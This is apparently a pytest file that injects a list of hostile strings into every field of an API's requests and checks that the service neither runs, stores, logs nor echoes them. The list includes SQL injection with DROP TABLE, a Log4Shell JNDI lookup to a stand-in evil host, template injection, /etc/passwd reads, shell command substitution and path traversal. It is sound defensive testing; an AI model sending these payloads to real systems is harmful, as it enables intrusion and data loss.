"""What is written into every text of every request: read as text, or refused; nothing changes.

The fields are those of the committed OpenAPI document, so that a new one is tried by itself.
"""

import copy
import json
import logging
import re
from functools import cache
from pathlib import Path
from urllib.parse import quote

import pytest

DOCUMENT = json.loads(Path(__file__).with_name("openapi.json").read_text())
TEXTS = (
    "' OR '1'='1' --", '"; DROP TABLE tlog_entry; --', "1); ATTACH DATABASE 'x' AS y; --",
    "{{ 1337 * 1337 }}", "{% include '/etc/passwd' %}", "${jndi:ldap://evil.example/a}",
    "#{1337*1337}",
    "%(password)s {0.__class__.__mro__}", "<script>alert(1)</script>", "$(touch owned)",
    "`touch owned`", "| touch owned", "../../../hub.json", "..\\..\\hub.json", "file:///etc/passwd",
    "a\r\nSet-Cookie: x=1", "\x1b]0;owned\x07", "\u202egnp.exe", "a" * 5000, "=HYPERLINK(1)",
)  # fmt: skip
# What an answer would hold if a text had been run, and a log if it had been printed as it is.
RUN = ("1787569", "root:", "PRIVATE KEY", "link_port", "__class__")
GOOD = {
    "epoch": "5", "contributor": "police", "version": "1", "index": "0", "year": "2026",
    "path": "0/000", "digest": "a" * 64, "document": "a" * 64, "party": "insurer",
    "number": "a" * 32,
}  # fmt: skip


@cache
def operations():
    return [
        (method.upper(), path, operation)
        for path, methods in DOCUMENT["paths"].items()
        for method, operation in methods.items()
    ]


def filled(path, name="", text=""):
    return re.sub(r"{(\w+)}", lambda at: text if at[1] == name else GOOD[at[1]], path)


def resolved(schema):
    while "$ref" in schema:
        schema = DOCUMENT["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
    return schema


def example(schema):
    """Make a value of a schema: every text is a letter."""
    schema = resolved(schema)
    for choice in ("anyOf", "oneOf", "allOf"):
        if choice in schema:
            return example(schema[choice][0])
    match schema.get("type"):
        case "object":
            return {name: example(part) for name, part in schema.get("properties", {}).items()}
        case "array":
            return [example(schema.get("items", {}))]
        case "integer" | "number":
            return 1
        case "boolean":
            return True
        case _:
            return "a"


def places(value, at=()):
    """Yield where the texts of a value are."""
    if isinstance(value, str):
        yield at
    elif isinstance(value, dict):
        for name, part in value.items():
            yield from places(part, (*at, name))
    elif isinstance(value, list):
        for number, part in enumerate(value):
            yield from places(part, (*at, number))


def with_text(value, at, text):
    made = copy.deepcopy(value)
    inner = made
    for step in at[:-1]:
        inner = inner[step]
    if not at:
        return text
    inner[at[-1]] = text
    return made


def bodies(operation, text):
    """Yield every body of an operation with the text in one of its fields, and in a new one."""
    for kind, content in operation.get("requestBody", {}).get("content", {}).items():
        if "json" in kind:
            whole = example(content.get("schema", {}))
            for at in places(whole):
                yield kind, json.dumps(with_text(whole, at, text)).encode()
            yield kind, json.dumps({text: text}).encode()
        elif kind == "application/x-www-form-urlencoded":
            for name in resolved(content.get("schema", {})).get("properties", {"a": 1}):
                yield kind, f"{quote(name)}={quote(text)}".encode()
        else:
            yield kind, text.encode()


def requests(text):
    for method, path, operation in operations():
        for name in re.findall(r"{(\w+)}", path):
            yield method, filled(path, name, quote(text, safe="")), {}, b""
        for part in operation.get("parameters", ()):
            if part["in"] == "query":
                query = f"?{quote(part['name'])}={quote(text, safe='')}"
                yield method, filled(path) + query, {}, b""
            elif part["in"] == "header" and text.isprintable() and text.isascii():
                yield method, filled(path), {part["name"]: text}, b""
        for kind, body in bodies(operation, text):
            yield method, filled(path), {"Content-Type": kind}, body


def state(world):
    """What must not change: entries, charges, partners, invitations, tables."""
    folders = [world.directory, world.home.root]
    files = {
        str(path): path.stat().st_size
        for folder in folders
        for path in folder.rglob("*")
        if path.is_file()
        and not path.name.endswith(("-wal", "-shm"))
        # A request that is decided and refused is entered, and that is all that it does.
        and "log" not in path.relative_to(folder).parts[0]
    }
    return files, world.used(), sorted(world.home.partners())


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_no_text_is_run_kept_or_printed(make_world, caplog, text, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    # As many as there are fields, from one address: how often is tested elsewhere.
    world = make_world()
    # What is made at the first act of all is there before the first of these.
    assert world.post(world.sign(world.query((b"w",)).request)).status_code == 200
    world.home.partners()
    before, entries = state(world), len(world.entries())
    tried = 0
    with caplog.at_level(logging.DEBUG, logger="lianfang"):
        for method, path, headers, body in requests(text):
            answer = world.client("insurer").request(method, path, headers=headers, content=body)
            tried += 1
            assert answer.status_code < 500 or answer.status_code == 503, (method, path)
            if answer.status_code >= 400:
                assert answer.headers["content-type"] == "application/problem+json"
                assert not any(sign in answer.text for sign in RUN), answer.text
            assert "set-cookie" not in answer.headers
    assert tried > 60
    assert state(world) == before
    new = world.entries()[entries:]
    assert not any("touch" in entry.encode().decode(errors="replace") for entry in new)
    assert not list(tmp_path.glob("owned"))
    assert text not in caplog.text
    assert world.client().get("/healthz").json() == {"status": "alive"}
    assert world.post(world.sign(world.query((b"x",)).request)).status_code == 200
